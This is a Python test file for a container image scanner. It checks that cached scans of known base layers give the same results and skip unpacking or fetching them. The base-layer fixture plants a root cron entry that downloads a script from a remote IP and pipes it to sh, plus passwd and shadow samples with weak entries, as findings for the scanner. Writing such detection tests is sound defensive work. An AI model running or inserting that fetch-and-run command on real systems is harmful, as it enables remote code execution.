"""The next image on a known base: the same answer, and of the base nothing is read, unpacked or fetched."""

import json
from collections.abc import Iterator
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import msgspec
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from gate.core.errors import GateError
from gate.images.limits import Limits
from gate.images.scan import ImageOptions, scan_image
from gate.model import Image
from tests.images.conftest import STATUS, digest
from tests.images.registry_server import FakeRegistry, serving

LIMITS = Limits(1 << 30, 10_000)
PATTERNS = TemporaryDirectory(prefix="gate-test-")
"""Where the compiled pre-filter for secrets is: compiling it costs more than all else here."""
LIST = b"/.\n/usr/bin/bash\n/etc/bash.bashrc\n"
BASH = b"\x7fELF" + bytes(70_000)
"""Like a program, and no valid one."""
SUMS = b"0123456789abcdef0123456789abcdef  usr/lib/other\n"
METADATA = b"Metadata-Version: 2.1\nName: Flask\nVersion: 2.0.0\n"


@pytest.fixture
def base(make) -> bytes:  # type: ignore[no-untyped-def]
    """A layer with something for every look at contents."""
    site = "usr/lib/python3/dist-packages/flask-2.0.0.dist-info"
    return make.layer(
        make.file("etc/os-release", make.release),
        make.file("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\napp::1:1::/:/bin/sh\n"),
        make.file("etc/shadow", b"root:$6$salt$hash:19000:0:99999:7:::\n"),
        make.file("etc/cron.d/job", b"* * * * * root curl http://203.0.113.1/x | sh\n"),
        make.file("var/lib/dpkg/status", STATUS),
        make.file("var/lib/dpkg/info/bash.list", LIST),
        make.file("var/lib/dpkg/info/bash.md5sums", SUMS),
        make.file("usr/bin/bash", BASH, mode=0o755),
        make.file(f"{site}/METADATA", METADATA),
        make.file(f"{site}/RECORD", b"flask/__init__.py,,\n"),
        make.file("srv/settings.ini", b"mode = production\n"),
        make.file("gone.txt", b"nothing"),
    )


def own(make, *more: Any) -> bytes:  # type: ignore[no-untyped-def]
    return make.layer(make.file(".wh.gone.txt"), make.file("app/x.py", b"token = None\n"), *more)


def scanned(source: str, reference: str, memory: Path | None) -> bytes:
    """Return all that a scan says, or why there is none."""
    image = Image(source=source, reference=reference, name="app")
    options = ImageOptions(LIMITS, memory_folder=str(memory) if memory else None, cache_folder=PATTERNS.name)
    try:
        return msgspec.json.encode(scan_image(image, options))
    except GateError as error:
        return str(error).encode()


@pytest.mark.parametrize("form", ["docker_files", "oci_files", "hybrid_files"])
def test_the_answer_does_not_depend_on_what_is_known(make, base, tmp_path, form: str) -> None:
    pack = {} if form == "hybrid_files" else {"pack": make.gzip}
    paths = [
        make.archive(tmp_path / f"{number}.tar", getattr(make, form)([base, own(make, make.file(str(number)))], **pack))
        for number in range(2)
    ]
    first, second = (scanned("archive", path, None) for path in paths)
    assert first != second
    memory = tmp_path / "memory"
    told = [scanned("archive", path, memory) for path in (*paths, *paths)]
    assert told == [first, second, first, second]


def test_of_a_known_base_in_a_layout_nothing_is_unpacked(make, base, tmp_path, monkeypatch) -> None:
    folder = Path(make.folder_of(tmp_path / "one", make.oci_files([base, own(make)], pack=make.gzip)))
    expected = scanned("oci-dir", str(folder), None)
    layers = [base, own(make, make.file("app/new.py", b"import os\n"))]
    make.folder_of(tmp_path / "two", make.oci_files(layers, pack=make.gzip))
    second = scanned("oci-dir", str(tmp_path / "two"), None)
    memory = tmp_path / "memory"
    assert scanned("oci-dir", str(folder), memory) == expected
    unpacked = _noted_unpacking(monkeypatch)
    assert scanned("oci-dir", str(tmp_path / "two"), memory) == second
    assert unpacked == [f"blobs/sha256/{digest(make.gzip(layers[1]))[7:]}"]


def _noted_unpacking(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    from gate.images.layers.scratch import GrowingSpan

    unpacked: list[str] = []
    fill = GrowingSpan.fill

    def noted(span: GrowingSpan, pieces: Iterator[bytes]) -> None:
        unpacked.append(span.name)
        fill(span, pieces)

    monkeypatch.setattr(GrowingSpan, "fill", noted)
    return unpacked


@pytest.fixture
def registry(make, base, tmp_path, monkeypatch) -> Iterator[tuple[FakeRegistry, str]]:  # type: ignore[no-untyped-def]
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path / "docker"))
    monkeypatch.setenv("HOME", str(tmp_path))
    registry = FakeRegistry()
    registry.hold(make.oci_files([base, own(make)], pack=make.gzip))
    with serving(registry) as host:
        yield registry, f"{host}/shop/api:1"


def test_from_a_registry_only_unknown_layers_are_fetched(make, base, registry, tmp_path) -> None:
    held, name = registry
    first = scanned("registry", name, None)
    memory = tmp_path / "memory"
    assert scanned("registry", name, memory) == first
    layers = [base, own(make, make.file("app/new.py", b"import os\n"))]
    held.hold(make.oci_files(layers, pack=make.gzip))
    second = scanned("registry", name, None)
    asked = []
    for _ in range(2):
        held.asked.clear()
        assert scanned("registry", name, memory) == second
        named = [layer["digest"] for layer in json.loads(held.manifests["1"][1])["layers"]]
        asked.append([digest for digest in named if any(digest in path for path in held.asked)])
    assert asked == [[digest(make.gzip(layers[1]))], []]


NAMES = st.sampled_from(["a", "b", "etc/os-release", "etc/passwd", "var/lib/dpkg/status", "usr/bin/bash", "x.py"])
CONTENTS = {
    "empty": b"",
    "text": b"one\n",
    "status": STATUS,
    "program": BASH,
    "release": b"ID=debian\nVERSION_ID=12\n",
    "passwd": b"root::0:0::/:/bin/sh\n",
}
LAYERS = st.lists(st.tuples(NAMES, st.sampled_from(sorted(CONTENTS)), st.booleans()), max_size=4)


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(LAYERS, min_size=2, max_size=4))
@example([[("var/lib/dpkg/status", "status", False)], [("var/lib/dpkg/status", "text", False)]])
def test_any_image_is_the_same_with_any_part_of_it_known(make, tmp_path_factory, contents) -> None:
    layers = [make.layer(*(_entry(make, *one) for one in layer)) for layer in contents]
    folder = tmp_path_factory.mktemp("image")
    for count in range(1, len(layers) + 1):
        path = make.archive(folder / f"{count}.tar", make.docker_files(layers[:count], pack=make.gzip))
        assert scanned("archive", path, folder / "memory") == scanned("archive", path, None)


def _entry(make, name: str, content: str, is_gone: bool) -> Any:  # type: ignore[no-untyped-def]
    folder, slash, last = name.rpartition("/")
    return make.file(f"{folder}{slash}.wh.{last}") if is_gone else make.file(name, CONTENTS[content], mode=0o755)


def test_a_run_that_knows_the_image_writes_nothing(make, base, tmp_path, monkeypatch) -> None:
    archive = make.archive(tmp_path / "app.tar", make.docker_files([base, own(make)]))
    monkeypatch.setattr("gate.core.file_stamp.SETTLED_NS", 0)
    first = scanned("archive", str(archive), tmp_path / "memory")
    written: list[dict[bytes, bytes]] = []
    monkeypatch.setattr("gate.core.cache.Cache.put", lambda _, answers: written.append(answers))
    assert scanned("archive", str(archive), tmp_path / "memory") == first
    assert [len(answers) for answers in written] == [0]
